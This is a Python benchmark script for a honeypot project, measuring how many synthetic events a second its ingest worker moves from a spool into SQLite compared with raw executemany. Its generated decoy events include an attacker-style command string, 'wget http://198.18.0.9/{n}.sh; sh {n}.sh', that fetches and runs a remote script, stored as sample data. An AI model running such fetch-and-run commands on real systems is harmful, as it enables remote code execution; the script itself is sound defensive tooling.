# SPDX-License-Identifier: MIT
"""How many events a second ingest moves from a spool into SQLite, beside the same rows by raw sqlite3 `executemany`.

`python benchmarks/ingest.py [EVENTS]` (default 100000). Both have the same table and indexes, the same batches, and
sync every commit; the raw one is given finished tuples, so the difference is reading, decoding and encoding. The
events look like a day of a decoy: many log-ins, some commands, some HTTP requests, from 2,000 addresses.
"""

from __future__ import annotations

import random
import resource
import sqlite3
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from decnet_core.events.catalogue import CommandRun, ConnectionOpened, HttpRequest, LoginAttempt, Payload
from decnet_core.events.envelope import Event
from decnet_core.events.ids import uuid7
from decnet_core.spool.quarantine import Quarantine
from decnet_core.spool.settings import SpoolSettings
from decnet_core.spool.writer import SpoolWriter
from decnet_models.database.engine import open_engine, reading
from decnet_models.events import queries
from decnet_models.migrations.upgrade import upgrade
from decnet_workers.ingest.intake import Intake
from decnet_workers.ingest.settings import IngestSettings

ADDRESSES = 2000
START = 1_780_000_000_000_000_000
AIM = 20_000


def main() -> None:
    """Measure and print."""
    total = int(sys.argv[1]) if len(sys.argv) > 1 else 100_000
    with tempfile.TemporaryDirectory() as directory:
        place = Path(directory)
        for name in ("decnet.db", "raw.db"):
            upgrade(f"sqlite:///{place / name}")
        appended = timed(lambda: fill(place, total))
        before = peak_mib()
        ingested = timed(lambda: ingest(place, total))
        after = peak_mib()
        rows = rows_of(place)
        raw = timed(lambda: insert_raw(place, rows))
    print(f"append to the spool   {total / appended:10,.0f} events/s")
    print(f"raw executemany       {total / raw:10,.0f} events/s")
    print(f"ingest                {total / ingested:10,.0f} events/s   aim {AIM:,}")
    print(f"ingest / raw          {raw / ingested:10.2f}")
    print(f"memory that it took   {after - before:10.1f} MiB")


def fill(place: Path, total: int) -> None:
    """Write the events to a spool."""
    spool = SpoolWriter(place / "spool" / "bench", SpoolSettings(fsync="off"))
    for event in make_events(total):
        spool.append(event)
    spool.close()


def make_events(total: int) -> Iterator[Event]:
    """Yield events like a decoy's."""
    rng = random.Random(7)
    for n in range(total):
        ts = START + n * 1_000_000
        address = f"198.18.{rng.randrange(ADDRESSES) // 250}.{rng.randrange(250)}"
        yield Event(
            id=uuid7(ts),
            ts=ts,
            sensor="bench",
            payload=make_payload(rng, n),
            decky="web-1",
            src_ip=address,
            src_port=rng.randrange(1024, 65536),
            dst_ip="127.77.0.1",
            dst_port=22,
            session=f"s{n // 8}",
        )


def make_payload(rng: random.Random, n: int) -> Payload:
    """Return what the event says."""
    match rng.randrange(10):
        case 0:
            return ConnectionOpened("ssh")
        case 1 | 2:
            return CommandRun("ssh", f"wget http://198.18.0.9/{n}.sh; sh {n}.sh")
        case 3:
            return HttpRequest("GET", f"/{n}", host="decoy", user_agent="curl/8", headers=(("Accept", "*/*"),))
        case _:
            return LoginAttempt("ssh", "root", success=False, password=f"pass{n}")


def ingest(place: Path, total: int) -> None:
    """Move all events as the worker does."""
    engine = open_engine(f"sqlite:///{place / 'decnet.db'}")
    quarantine = Quarantine(place / "quarantine")
    intake = Intake(engine, place / "spool", quarantine, IngestSettings(), store=place / "artifacts")
    while intake.run_pass().read:
        pass
    intake.close()
    with reading(engine) as connection:
        assert queries.count(connection) == total
    engine.dispose()


def rows_of(place: Path) -> list[tuple[object, ...]]:
    """Return the ingested rows as the driver gives them."""
    with sqlite3.connect(place / "decnet.db") as connection:
        rows = connection.execute("SELECT * FROM event ORDER BY seq").fetchall()
    connection.close()
    return [row[1:] for row in rows]


def insert_raw(place: Path, rows: list[tuple[object, ...]]) -> None:
    """Insert them into an equal, empty table in equal, synced batches."""
    connection = sqlite3.connect(place / "raw.db", isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA synchronous=FULL")
    names = [column[1] for column in connection.execute("PRAGMA table_info(event)")][1:]
    statement = f"INSERT INTO event ({', '.join(names)}) VALUES ({', '.join('?' * len(names))})"
    size = IngestSettings().batch_events
    for start in range(0, len(rows), size):
        connection.execute("BEGIN IMMEDIATE")
        connection.executemany(statement, rows[start : start + size])
        connection.execute("COMMIT")
    connection.close()


def timed(work: Callable[[], None]) -> float:
    """Return the seconds that `work` takes."""
    started = time.perf_counter()
    work()
    return time.perf_counter() - started


def peak_mib() -> float:
    """Return the most memory that this process has held."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


if __name__ == "__main__":
    main()
